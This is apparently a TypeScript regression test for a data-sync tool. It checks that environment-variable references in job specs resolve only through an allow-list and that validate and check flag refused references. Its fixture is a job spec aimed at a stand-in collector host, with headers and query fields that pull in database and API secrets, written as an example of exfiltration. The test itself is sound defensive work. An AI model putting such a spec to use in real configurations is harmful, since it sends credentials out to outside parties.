/**
 * Attack: a job spec's `${ENV}` sent secrets the old deny-list did not name (PGPASSWORD,
 * MYSQL_PWD, AWS_SECRET_ACCESS_KEY, *_API_KEY, *_PASS, another app's CRM_APPKEY, the
 * database URL a job names as urlEnv) to a host of the spec's choosing, and `validate`
 * and `check` said ok. Nothing may resolve unless ROWBRIDGE_SOURCE_ENV_ALLOW names it.
 */
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { main as check } from '../../src/cli/check.ts';
import { main as validate } from '../../src/cli/validate.ts';
import { startEmulator } from '../../src/emulator/start-emulator.ts';
import type { EmulatorHandle } from '../../src/emulator/start-emulator.ts';
import { createSource } from '../../src/sync/sources/create-source.ts';
import type { HttpSourceSpec } from '../../src/sync/sources/source-spec.ts';
import { captureIo } from '../helpers/capture-io.ts';
import { startRecordingServer } from '../helpers/recording-server.ts';
import type { RecordingServer } from '../helpers/recording-server.ts';
import { collect, rejection } from '../fixtures/sources/source-test-kit.ts';

const SECRETS: Record<string, string> = {
  ORDERS_DB_URL: 'postgres://app:db-pass@db/orders',
  PGPASSWORD: 'pg-pass',
  MYSQL_PWD: 'mysql-pass',
  AWS_SECRET_ACCESS_KEY: 'aws-secret',
  STRIPE_API_KEY: 'sk_live_1',
  SMTP_PASS: 'smtp-pass',
  CRM_APPKEY: 'crm-appkey',
};

describe('${ENV} in job specs: an allow-list, not a deny-list', () => {
  let server: RecordingServer;

  beforeAll(async () => {
    server = await startRecordingServer();
    server.respond(() => ({ status: 200, body: [] }));
  });
  afterAll(async () => {
    await server?.close();
  });

  const read = (spec: Partial<HttpSourceSpec>, extra: Record<string, string> = {}) =>
    collect(
      createSource(
        { type: 'http', url: `${server.url}/items`, ...spec },
        { env: { ...SECRETS, PUBLIC_REGION: 'eu', ...extra }, baseDir: '/' },
      ),
    );

  it.each(Object.keys(SECRETS))(
    'refuses ${%s} before any request, unset allow-list or a "*" one',
    async (name) => {
      for (const allow of [{}, { ROWBRIDGE_SOURCE_ENV_ALLOW: '*' }]) {
        const err = await rejection(read({ query: { leak: `\${${name}}` } }, allow));
        expect(err.code).toBe('SOURCE_CONFIG');
        expect(err.message).toContain('source.query.leak');
        expect(err.message).toContain(`list ${name} in ROWBRIDGE_SOURCE_ENV_ALLOW`);
        expect(err.message).not.toContain(SECRETS[name]!);
      }
      expect(server.requests).toHaveLength(0);
    },
  );

  it('resolves nothing by default, not even an ordinary name; a listed name or glob resolves', async () => {
    const refused = await rejection(read({ query: { region: '${PUBLIC_REGION}' } }));
    expect(refused.message).toContain('list PUBLIC_REGION in ROWBRIDGE_SOURCE_ENV_ALLOW');
    expect(server.requests).toHaveLength(0);
    await read(
      { query: { region: '${PUBLIC_REGION}', k: '${STRIPE_API_KEY}' } },
      { ROWBRIDGE_SOURCE_ENV_ALLOW: 'PUBLIC_*,STRIPE_API_KEY' },
    );
    expect(server.last().query).toMatchObject({ region: 'eu', k: 'sk_live_1' });
  });
});

describe('validate and check report the references a run would refuse', () => {
  let emulator: EmulatorHandle;
  let dir: string;
  let env: NodeJS.ProcessEnv;

  beforeAll(async () => {
    emulator = await startEmulator();
    const app = emulator.createApp({ name: 'Leaks' });
    emulator.createWorksheet(app.appId, {
      name: 'Items',
      alias: 'items',
      fields: [{ name: 'Code', alias: 'code', type: 'Text', required: true, isTitle: true }],
    });
    dir = await mkdtemp(path.join(tmpdir(), 'rowbridge-env-allow-'));
    await writeFile(
      path.join(dir, 'leak.yaml'),
      `name: leak
source:
  type: http
  url: https://collector.example/c
  headers: { X-A: '\${PGPASSWORD}' }
  query: { b: '\${CRM_APPKEY}' }
target: { worksheet: items, mode: upsert, key: code }
fields: { code: code }
`,
    );
    env = {
      ...SECRETS,
      ROWBRIDGE_API_URL: emulator.url,
      ROWBRIDGE_APPKEY: app.appKey,
      ROWBRIDGE_SIGN: app.sign,
      ROWBRIDGE_HEADER_PREFIX: (emulator as { headerPrefix?: string }).headerPrefix ?? 'APP-',
      ROWBRIDGE_JOBS_DIR: dir,
      REDIS_URL: 'redis://127.0.0.1:1',
    };
  });
  afterAll(async () => {
    await emulator?.close();
    await rm(dir, { recursive: true, force: true });
  });

  it('validate fails naming each refused reference and the setting', async () => {
    const io = captureIo(env);
    expect(await validate(['leak'], io)).toBe(1);
    const err = io.stderr.join('\n');
    expect(err).toContain('source.headers.X-A');
    expect(err).toContain('list PGPASSWORD in ROWBRIDGE_SOURCE_ENV_ALLOW');
    expect(err).toContain('source.query.b');
    expect(err).toContain('list CRM_APPKEY in ROWBRIDGE_SOURCE_ENV_ALLOW');
    const allowed = captureIo({ ...env, ROWBRIDGE_SOURCE_ENV_ALLOW: 'PGPASSWORD,CRM_APPKEY' });
    expect(await validate(['leak'], allowed)).toBe(0);
  });

  it('check fails with a "source env" step though the platform answers', async () => {
    const io = captureIo(env);
    expect(await check(['leak'], io)).toBe(1);
    const out = io.stdout.join('\n');
    expect(out).toMatch(/source env\s+FAILED\s+source\.headers\.X-A refers to \$\{PGPASSWORD\}/);
    expect(out).toMatch(/platform\s+ok/);
    expect(out).not.toContain('pg-pass');
  });
});
